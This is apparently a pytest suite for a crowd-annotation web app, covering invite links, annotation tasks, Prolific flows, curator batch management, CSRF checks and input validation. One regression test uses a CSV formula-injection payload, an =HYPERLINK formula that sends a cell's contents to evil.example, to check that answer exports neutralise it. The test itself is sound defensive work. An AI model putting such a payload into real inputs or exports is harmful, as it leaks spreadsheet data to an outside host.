"""The annotator's one link and the curators' crowd management, over the test client.

One link serves judge, then crop, then a finished screen; progress is "n of N" per batch; crop
tasks start from proposed boxes (orientation result, photo areas, filter split, in that order);
a lapsed reservation renews; instruction pictures and the eye-order pictures (depth in colour) are served; Prolific
without a completion code thanks the participant; curators create batches, invite, flag, check
Prolific submissions and download answers, each POST with CSRF and a confirmation.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import numpy as np
import pytest
from PIL import Image
from sqlalchemy import func, select

from annotation.models import Answer, Batch, Reservation, Worker
from core.db import db, utcnow

TOKEN = re.compile(r'data-worker-token="([^"]*)"')
JUDGE_OK = {"is_stereo": True, "upside_down": False, "inverted": False, "swapped": False}


@pytest.fixture
def cards(make_card, card_image):  # type: ignore[no-untyped-def]
    base = card_image()
    made = [0]

    def make(k: int, state: str = "review") -> list[int]:
        ids = []
        for _ in range(k):
            image = base.copy()
            image[0, 0, 0] = made[0] % 256
            made[0] += 1
            ids.append(make_card(image, state=state))
        return ids

    return make


def new_batch(app, card_ids, kind="judge", n=1):  # type: ignore[no-untyped-def]
    from annotation.batches import create_batch

    with app.app_context():
        return create_batch(card_ids, kind, n, 0.0).id


def invite_link(app, name: str) -> str:  # type: ignore[no-untyped-def]
    from annotation.providers import InviteProvider

    with app.app_context():
        return f"/crowd/invite/{InviteProvider.invite(name).token}"


def api(client, path: str, token: str, body):  # type: ignore[no-untyped-def]
    return client.post(f"/crowd/api/{path}", headers={"X-Crowd-Token": token}, json=body)


def worker_token(html: str) -> str:
    return TOKEN.search(html).group(1)  # type: ignore[union-attr]


def crop_answer(task: dict) -> dict:
    return {"left": task["proposed"]["left"], "right": task["proposed"]["right"]}


def test_one_link_serves_judge_then_crop_then_a_finished_screen(app, client, cards):
    judge_batch = new_batch(app, cards(2))
    crop_cards = cards(1, state="pass")
    new_batch(app, crop_cards, "crop")
    link = invite_link(app, "ada")
    html = client.get(link).get_data(as_text=True)
    assert "annotation/judge.js" in html and f'data-next-kind-url="{link}?kind=crop"' in html
    t = worker_token(html)
    data = api(client, "next", t, {"kind": "judge"}).get_json()
    assert data["positions"] == {str(judge_batch): {"done": 0, "total": 2}}
    for step in range(2):
        task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
        assert (
            api(client, "submit", t, {"token": task["token"], "answer": JUDGE_OK, "key": f"judge-{step:04d}"}).status_code == 201
        )
    data = api(client, "next", t, {"kind": "judge"}).get_json()
    assert data["tasks"] == [] and data["reason"] == "batch_complete"
    # The same link now opens the crop page (nothing typed by hand), with no later kind to go to.
    html = client.get(link).get_data(as_text=True)
    assert "annotation/crop.js" in html and 'data-next-kind-url=""' in html and 'id="finished" class="finished" hidden' in html
    task = api(client, "next", t, {"kind": "crop"}).get_json()["tasks"][0]
    assert task["proposed"]["source"] == "photo_area"
    assert api(client, "submit", t, {"token": task["token"], "answer": crop_answer(task), "key": "crop-0001"}).status_code == 201
    finished = client.get(link)
    html = finished.get_data(as_text=True)
    assert finished.status_code == 200 and "All done, thank you!" in html and "keeps your place" in html
    assert 'id="task-controls" hidden' in html and worker_token(html)  # controls hidden, the link still works


def test_finished_screen_says_when_others_hold_the_rest(app, client, cards):
    new_batch(app, cards(1))
    first = worker_token(client.get(invite_link(app, "bo")).get_data(as_text=True))
    assert api(client, "next", first, {"kind": "judge"}).get_json()["tasks"]  # bo holds the only card
    html = client.get(invite_link(app, "cy")).get_data(as_text=True)
    assert "Nothing for you right now" in html and "Come back in about 10 minutes" in html


def test_proposed_boxes_come_from_orientation_then_photo_areas_then_the_filter(app, cards, add_stage_result, data_dir):
    from annotation.proposals import _photo_area_cache, proposed_boxes
    from core.models import Card

    card_id = cards(1, state="pass")[0]
    add_stage_result(card_id, "filter")
    with app.app_context():
        card = db.session.get(Card, card_id)
        found = proposed_boxes(card)
        # Photo areas of the real test card (two 296 x 200 photos with a 12 px gutter), in original pixels.
        assert found.source == "photo_area"
        assert 0 <= found.left[0] < found.left[2] <= 296 + 6 and 296 + 6 <= found.right[0] < found.right[2] <= 604
        assert found.left[3] <= 200 and found.right[3] <= 200
    add_stage_result(
        card_id,
        "orientation",
        outcome=None,
        metrics={"photo_left_box": [10, 12, 280, 190], "photo_right_box": [318, 12, 590, 190]},
    )
    with app.app_context():
        card = db.session.get(Card, card_id)
        assert proposed_boxes(card).as_json() == {
            "left": [10.0, 12.0, 280.0, 190.0],
            "right": [318.0, 12.0, 590.0, 190.0],
            "source": "orientation",
        }
    # An orientation result without usable boxes, and an original that cannot be read: the filter's split.
    add_stage_result(
        card_id, "orientation", outcome=None, param_hash="fedcba9876543210", metrics={"photo_left_box": [1, 2, "x", 4]}
    )
    with app.app_context():
        card = db.session.get(Card, card_id)
        (data_dir / card.stored_path).unlink()
        _photo_area_cache.clear()
        assert proposed_boxes(card).as_json() == {
            "left": [0.0, 0.0, 296.0, 200.0],
            "right": [308.0, 0.0, 604.0, 200.0],
            "source": "filter",
        }


@pytest.mark.both_databases
def test_a_lapsed_reservation_is_renewed_and_the_same_answer_goes_through(app, client, cards):
    new_batch(app, cards(1))
    t = worker_token(client.get(invite_link(app, "dee")).get_data(as_text=True))
    task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
    with app.app_context():
        row = db.session.scalar(select(Reservation).where(Reservation.token == task["token"]))
        row.expires_at = utcnow() - timedelta(minutes=1)
        db.session.commit()
    body = {"token": task["token"], "answer": JUDGE_OK, "key": "renew-key-1"}
    lapsed = api(client, "submit", t, body)
    assert lapsed.status_code == 409 and "expired" in lapsed.get_json()["error"]["message"]
    renewed = api(client, "renew", t, {"token": task["token"]})
    assert renewed.status_code == 200 and renewed.get_json()["task"]["token"] == task["token"]
    assert api(client, "submit", t, body).status_code == 201
    assert api(client, "renew", t, {"token": task["token"]}).status_code == 409  # answered
    assert api(client, "renew", t, {"token": "guessed"}).status_code == 404
    assert api(client, "renew", t, {}).status_code == 400


@pytest.mark.both_databases
def test_renewing_fails_when_someone_else_took_the_card(app, client, cards):
    new_batch(app, cards(1))
    first = worker_token(client.get(invite_link(app, "eve")).get_data(as_text=True))
    task = api(client, "next", first, {"kind": "judge"}).get_json()["tasks"][0]
    with app.app_context():
        row = db.session.scalar(select(Reservation).where(Reservation.token == task["token"]))
        row.expires_at = utcnow() - timedelta(minutes=1)
        db.session.commit()
    second = worker_token(client.get(invite_link(app, "fay")).get_data(as_text=True))
    assert api(client, "next", second, {"kind": "judge"}).get_json()["tasks"]  # the lapsed slot goes to fay
    refused = api(client, "renew", first, {"token": task["token"]})
    assert refused.status_code == 409 and "Someone else" in refused.get_json()["error"]["message"]


def test_judge_answers_take_swapped_and_refuse_a_bad_one(app, client, cards):
    new_batch(app, cards(2))
    t = worker_token(client.get(invite_link(app, "gus")).get_data(as_text=True))
    task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
    bad = api(client, "submit", t, {"token": task["token"], "answer": {**JUDGE_OK, "swapped": "yes"}, "key": "gus-0001"})
    assert bad.status_code == 400 and "swapped to be true or false" in bad.get_json()["error"]["message"]
    good = api(client, "submit", t, {"token": task["token"], "answer": {**JUDGE_OK, "swapped": True}, "key": "gus-0002"})
    assert good.status_code == 201
    with app.app_context():
        assert db.session.scalar(select(Answer.payload))["swapped"] is True


def test_eye_order_pictures_show_the_depth_in_colour_in_both_orders(app, client, make_card):
    """A real stereo card (the synthetic one from Middlebury's Motorcycle pair, photo boxes found on
    it): both pictures are colour JPEGs with clearly warm and clearly cool parts (the old GIF's
    palette came from the photo and left no blue pixel), and the motorcycle, nearer than the
    shelves behind it, is warm as scanned and cool exchanged."""
    from simulation.cards import make_stereo_card

    card = make_stereo_card(0, 0)
    new_batch(app, [make_card(card.image, state="review")])
    t = worker_token(client.get(invite_link(app, "hal")).get_data(as_text=True))
    task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
    assert set(task["wiggle_urls"]) == {"as-is", "swapped"}
    pictures = {}
    for order, url in task["wiggle_urls"].items():
        response = client.get(url)
        assert response.status_code == 200 and response.mimetype == "image/jpeg" and len(response.data) < 150_000
        assert response.headers["Cache-Control"] == "private, max-age=3600"
        with Image.open(io.BytesIO(response.data)) as picture:
            assert picture.mode == "RGB" and picture.width == 360
            pictures[order] = np.asarray(picture, np.float32)
        warmth = pictures[order][..., 0] - pictures[order][..., 2]  # red minus blue
        warm, cool = float((warmth > 60).mean()), float((warmth < -60).mean())
        assert warm > 0.15 and cool > 0.15, (order, warm, cool)  # measured 0.59 / 0.20 and 0.20 / 0.54

    # The motorcycle fills the middle of the photo, shelves stand behind it at the top.
    def warmth_of(order: str, rows: slice, columns: slice) -> float:
        picture = pictures[order]
        return float((picture[rows, columns, 0] - picture[rows, columns, 2]).mean())

    height, width = pictures["as-is"].shape[:2]
    motorcycle = (slice(height * 3 // 10, height * 7 // 10), slice(width // 5, width * 4 // 5))
    shelves = (slice(0, height // 6), slice(0, width))
    # Measured (red minus blue): motorcycle +122, shelves -70 as scanned; -98 and +81 exchanged.
    assert warmth_of("as-is", *motorcycle) > 60 and warmth_of("swapped", *motorcycle) < -60
    assert warmth_of("as-is", *shelves) < warmth_of("as-is", *motorcycle) - 60
    assert warmth_of("swapped", *shelves) > warmth_of("swapped", *motorcycle) + 60
    assert client.get(task["wiggle_urls"]["as-is"].replace("as-is", "sideways")).status_code == 404
    assert client.get("/crowd/task/guessed/eye-order/as-is.jpg").status_code == 404


def test_eye_order_pictures_of_photo_boxes_too_small_are_a_404_that_says_why(
    app, client, make_card, card_image, add_stage_result
):
    card_id = make_card(card_image(), state="review")
    add_stage_result(card_id, "orientation", metrics={"photo_left_box": [0, 0, 1, 1], "photo_right_box": [10, 0, 11, 1]})
    new_batch(app, [card_id])
    t = worker_token(client.get(invite_link(app, "ida")).get_data(as_text=True))
    task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
    response = client.get(task["wiggle_urls"]["swapped"])
    assert response.status_code == 404
    assert "No eye-order picture for this card: Expected photo boxes that keep at least 2 x 2 px" in response.get_data(
        as_text=True
    )


def test_instruction_pictures_are_rendered_from_the_synthetic_card(client):
    for name in ("good-crop", "bad-crop", "upside-down", "negative", "eye-order"):
        response = client.get(f"/crowd/examples/{name}.jpg")
        assert response.status_code == 200 and response.mimetype == "image/jpeg"
        with Image.open(io.BytesIO(response.data)) as picture:
            assert picture.width == 480 and picture.height > 150
            pixels = np.asarray(picture.convert("RGB"), np.float32)
    # The last, the eye-order example: warm on its left half (as scanned), cool on its right (exchanged);
    # measured +48 and -27 red minus blue on average (the grey photo shows where no depth was read).
    warmth = pixels[..., 0] - pixels[..., 2]
    assert warmth[:, :236].mean() > 25 and warmth[:, 244:].mean() < -15
    assert client.get("/crowd/examples/secret.jpg").status_code == 404


def test_mturk_preview_shows_a_real_card_read_only(app, client, cards):
    new_batch(app, cards(1))
    page = client.get("/crowd/mturk?assignmentId=ASSIGNMENT_ID_NOT_AVAILABLE&hitId=H1")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and 'data-preview-image="/crowd/preview.jpg"' in html
    picture = client.get("/crowd/preview.jpg")
    assert picture.status_code == 200 and picture.mimetype == "image/jpeg"
    with Image.open(io.BytesIO(picture.data)) as shown:
        assert shown.size == (604, 200)  # the batch's card, not a placeholder
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Reservation)) == 0


def test_prolific_without_a_completion_code_ends_on_a_thank_you_page(app, client, cards):
    app.config.pop("KEYSTONE_PROLIFIC_COMPLETION_CODE", None)
    new_batch(app, cards(1))
    html = client.get("/crowd/prolific?PROLIFIC_PID=p1&STUDY_ID=s1&SESSION_ID=x1").get_data(as_text=True)
    done = client.get(f"/crowd/finish?t={worker_token(html)}")
    text = done.get_data(as_text=True)
    assert done.status_code == 200 and "Thank you" in text and "session x1" in text
    from annotation.models import CrowdSession

    with app.app_context():
        assert db.session.scalar(select(CrowdSession.completed_at)) is not None


def test_an_annotator_account_finds_its_work_from_the_nav(app, client, cards, login):
    new_batch(app, cards(1))
    assert client.get("/crowd/mine").status_code == 302  # to the login page
    login("annotator", username="ida")
    assert 'href="/crowd/mine"' in client.get("/cards", follow_redirects=True).get_data(as_text=True)
    first = client.get("/crowd/mine")
    assert first.status_code == 303 and first.headers["Location"].startswith("/crowd/invite/")
    assert client.get("/crowd/mine").headers["Location"] == first.headers["Location"]  # the same link: resumes
    html = client.get(first.headers["Location"]).get_data(as_text=True)
    assert "annotation/judge.js" in html and "account:ida" in html
    with app.app_context():
        assert db.session.scalar(select(Worker.person_id).where(Worker.external_id == "account:ida")) is not None


# ---------------------------------------------------------------------------------------------
# Curators


def test_batches_page_counts_needed_answers_and_curators_manage_the_crowd(app, client, cards, login, csrf_token):
    ids = cards(3)
    batch = new_batch(app, ids[:2], n=2)
    link = invite_link(app, "jo")
    t = worker_token(client.get(link).get_data(as_text=True))
    for step in range(2):
        task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
        api(client, "submit", t, {"token": task["token"], "answer": JUDGE_OK, "key": f"jo-key-{step}"})
    login("curator")
    page = client.get("/crowd/batches").get_data(as_text=True)
    assert "<strong>2 of 4</strong> answers needed (50 %)" in page and "2 cards × 2 answers; 0 of 2 complete" in page
    token = csrf_token("/crowd/batches")
    made = client.post(
        "/crowd/batches/new",
        data={"csrf_token": token, "cards": f"{ids[2]}", "kind": "crop", "answers_per_item": "2", "gold_rate": "0"},
        follow_redirects=True,
    )
    assert made.status_code == 200 and f"Batch {batch + 1} created: 1 crop cards, 2 answers each" in made.get_data(as_text=True)
    invited = client.post("/crowd/invites", data={"csrf_token": token, "name": "Kim"}, follow_redirects=True)
    # the flash says it was made; the link itself is listed (with a copy button and a QR code)
    assert re.search(r"Invite link for Kim made; it works until ", invited.get_data(as_text=True))
    assert re.search(
        r'<code class="invite-url" id="invite-url-\d+">http://localhost/crowd/invite/', invited.get_data(as_text=True)
    )
    with app.app_context():
        jo = db.session.scalar(select(Worker.id).where(Worker.external_id == "jo"))
    flagged = client.post(f"/crowd/workers/{jo}/flag", data={"csrf_token": token, "flagged": "1"}, follow_redirects=True)
    assert "Flagged invite:jo" in flagged.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Answer).where(Answer.flagged.is_(True))) == 2
    cleared = client.post(f"/crowd/workers/{jo}/flag", data={"csrf_token": token, "flagged": "0"}, follow_redirects=True)
    assert "Cleared invite:jo" in cleared.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Answer).where(Answer.flagged.is_(True))) == 0
        assert not db.session.scalar(select(Worker.flagged).where(Worker.id == jo))
    exported = client.get(f"/crowd/batches/{batch}/answers.csv")
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    assert exported.mimetype == "text/csv" and len(rows) == 2 and {r["worker"] for r in rows} == {"invite:jo"}
    assert client.get("/crowd/batches/999/answers.csv").status_code == 404


FORMULA_SESSION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_answers_csv_neutralises_formulas_from_the_crowd(app, client, cards, login, runner, tmp_path):
    # Issue 32: a Prolific SESSION_ID of =HYPERLINK(...) landed verbatim in the curator's answers.csv.
    from urllib.parse import urlencode

    import pyarrow.parquet as pq

    batch = new_batch(app, cards(1))
    query = urlencode({"PROLIFIC_PID": "-pid", "STUDY_ID": "s1", "SESSION_ID": FORMULA_SESSION})
    t = worker_token(client.get(f"/crowd/prolific?{query}").get_data(as_text=True))
    task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
    assert api(client, "submit", t, {"token": task["token"], "answer": JUDGE_OK, "key": "formula-key-1"}).status_code == 201
    login("curator")
    web = list(csv.DictReader(io.StringIO(client.get(f"/crowd/batches/{batch}/answers.csv").get_data(as_text=True))))
    result = runner.invoke(args=["crowd", "export", str(batch), "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    with (tmp_path / "answers.csv").open(newline="") as handle:
        cli = list(csv.DictReader(handle))
    for rows in (web, cli):
        assert [r["session"] for r in rows] == ["'" + FORMULA_SESSION]
        assert rows[0]["worker"] == "prolific:-pid"  # starts with the provider: no formula
    # Parquet is read by programs, not spreadsheets: it keeps the value as given.
    assert pq.read_table(tmp_path / "answers.parquet").column("session").to_pylist() == [FORMULA_SESSION]


def test_curators_check_prolific_submissions(app, client, cards, login, csrf_token):
    app.config["KEYSTONE_PROLIFIC_COMPLETION_CODE"] = "CODE1"
    new_batch(app, cards(1))
    html = client.get("/crowd/prolific?PROLIFIC_PID=done-pid&STUDY_ID=s1&SESSION_ID=x1").get_data(as_text=True)
    t = worker_token(html)
    task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
    api(client, "submit", t, {"token": task["token"], "answer": JUDGE_OK, "key": "pid-key-1"})
    client.get(f"/crowd/finish?t={t}")
    client.get("/crowd/prolific?PROLIFIC_PID=idle-pid&STUDY_ID=s1&SESSION_ID=x2")
    login("curator")
    checked = client.post(
        "/crowd/submissions", data={"csrf_token": csrf_token("/crowd/batches"), "participants": "done-pid\nidle-pid\nstranger"}
    )
    text = checked.get_data(as_text=True)
    assert checked.status_code == 200 and "Checked 3 submissions: 1 to approve, 0 to reject, 2 unknown." in text
    assert re.search(r'<textarea id="approve-ids" readonly rows="1">done-pid</textarea>', text)
    assert "never reached the completion step" in text and "never opened this study here" in text


@pytest.mark.parametrize(
    "form, status, words",
    [
        ({"cards": "1, two"}, 400, "whole numbers"),
        ({"cards": "999"}, 404, "No card with id 999"),
        ({"cards": ""}, 400, "No cards"),
        ({"cards": "1", "kind": "paint"}, 400, "judge, crop, confirm"),
        ({"cards": "1", "answers_per_item": "0"}, 400, "answers per item"),
        ({"cards": "1", "gold_rate": "lots"}, 400, "gold rate to be a number"),
        # Ids and numbers are read strictly: ASCII digits within the database's range, nothing
        # int() or float() would also take (issue 32: a 64-bit overflow was a 500).
        ({"cards": "9223372036854775808"}, 400, "positive whole number (at most 2147483647)"),
        ({"cards": "2147483648"}, 400, "positive whole number"),
        ({"cards": "1" * 5000}, 400, "positive whole number"),
        ({"cards": "1_0"}, 400, "positive whole number"),
        ({"cards": "\uff11"}, 400, "positive whole number"),
        ({"cards": "+1"}, 400, "positive whole number"),
        ({"cards": "1", "answers_per_item": "1_0"}, 400, "answers per item to be a positive whole number (at most 50)"),
        ({"cards": "1", "answers_per_item": "\uff13"}, 400, "answers per item"),
        ({"cards": "1", "gold_rate": "\uff10.5"}, 400, "gold rate to be a number"),
        ({"cards": "1", "gold_rate": "0_5"}, 400, "gold rate to be a number"),
    ],
)
def test_bad_batch_forms_get_a_reason_never_a_500(app, client, cards, login, csrf_token, form, status, words):
    cards(1)
    login("curator")
    response = client.post("/crowd/batches/new", data={"csrf_token": csrf_token("/crowd/batches"), **form})
    assert response.status_code == status and words in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Batch)) == 0


def test_crowd_management_needs_a_curator_and_a_csrf_token(app, client, cards, login, csrf_token):
    new_batch(app, cards(1))
    login("annotator")
    assert client.get("/crowd/batches").status_code == 403
    assert client.post("/crowd/invites", data={"csrf_token": csrf_token("/cards"), "name": "x"}).status_code == 403
    client.post("/auth/logout", data={"csrf_token": csrf_token("/cards")})
    login("curator")
    assert client.post("/crowd/invites", data={"name": "no-token"}).status_code == 400
    assert (
        client.post("/crowd/workers/999/flag", data={"csrf_token": csrf_token("/crowd/batches"), "flagged": "1"}).status_code
        == 404
    )
    assert client.post("/crowd/invites", data={"csrf_token": csrf_token("/crowd/batches"), "name": ""}).status_code == 400
